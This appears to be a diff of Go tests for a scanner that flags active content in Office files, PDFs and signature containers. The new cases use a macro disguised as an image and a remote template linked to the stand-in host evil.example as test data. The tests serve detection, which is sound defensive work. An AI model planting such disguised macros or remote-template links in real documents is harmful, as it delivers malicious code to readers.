@@ -49,6 +49,16 @@ func zipOf(t testing.TB, files ...string) string {
 	return b.String()
 }
 
+// rels is a relationships part; each relationship is "Id Type Target" and perhaps a mode.
+func rels(list ...string) string {
+	text := `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
+	for _, one := range list {
+		f := append(strings.Fields(one), "Internal")
+		text += `<Relationship Id="` + f[0] + `" Type="` + f[1] + `" Target="` + f[2] + `" TargetMode="` + f[3] + `"/>`
+	}
+	return text + `</Relationships>`
+}
+
 func find(t *testing.T, document string) active.Findings {
 	t.Helper()
 	return active.Find(budget.New(t.Context(), len(document)), []byte(document))
@@ -94,8 +104,22 @@ func TestFind(t *testing.T) {
 			[]active.Item{{Kind: active.File, Name: "b.pdf"}, {Kind: active.Script, In: "b.pdf", Automatic: true}}},
 		"script in a container": {zipOf(t, "mimetype", asice, "a/b.pdf", pdfWith("/OpenAction<</JS(x)>>", "")),
 			[]active.Item{{Kind: active.Script, In: "a/b.pdf", Automatic: true}}},
-		"macro": {zipOf(t, "[Content_Types].xml", word, "_rels/.rels", "<Relationships/>", "word/vbaProject.bin", "x"),
+		"macro": {zipOf(t, "[Content_Types].xml", word, "_rels/.rels", rels(), "word/vbaProject.bin", "x"),
 			[]active.Item{{Kind: active.Macro, In: "word/vbaProject.bin"}}},
+		"macro of another name": {zipOf(t, "[Content_Types].xml", word, "word/_rels/document.xml.rels",
+			rels("a http://schemas.microsoft.com/office/2006/relationships/vbaProject media/image1.png"), "word/media/image1.png", "x"),
+			[]active.Item{{Kind: active.Macro, In: "word/media/image1.png"}}},
+		"macro that two ways lead to": {zipOf(t, "[Content_Types].xml", word, "word/_rels/document.xml.rels",
+			rels("a http://schemas.microsoft.com/office/2006/relationships/vbaProject /word/vbaProject.bin"), "word/vbaProject.bin", "x"),
+			[]active.Item{{Kind: active.Macro, In: "word/vbaProject.bin"}}},
+		"template elsewhere": {zipOf(t, "[Content_Types].xml", word, "word/_rels/settings.xml.rels",
+			rels("a http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate http://evil.example/a.dotm External")),
+			[]active.Item{{Kind: active.External, In: "word/_rels/settings.xml.rels", Name: "http://evil.example/a.dotm", Automatic: true}}},
+		"a link alone": {zipOf(t, "[Content_Types].xml", word, "word/_rels/document.xml.rels",
+			rels("a http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink http://example.org/ External")), nil},
+		"text of another format": {zipOf(t, "[Content_Types].xml", word, "word/_rels/document.xml.rels",
+			rels("a http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk a.mht"), "word/a.mht", "x"),
+			[]active.Item{{Kind: active.External, In: "word/a.mht"}}},
 		"macro in a container": {zipOf(t, "mimetype", asice, "a.docm", zipOf(t, "[Content_Types].xml", word, "word/vbaProject.bin", "x")),
 			[]active.Item{{Kind: active.Macro, In: "a.docm/word/vbaProject.bin"}}},
 		"old Office": {zipOf(t, "mimetype", asice, "a.doc", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest"), []active.Item{{Kind: active.Macro, In: "a.doc"}}},
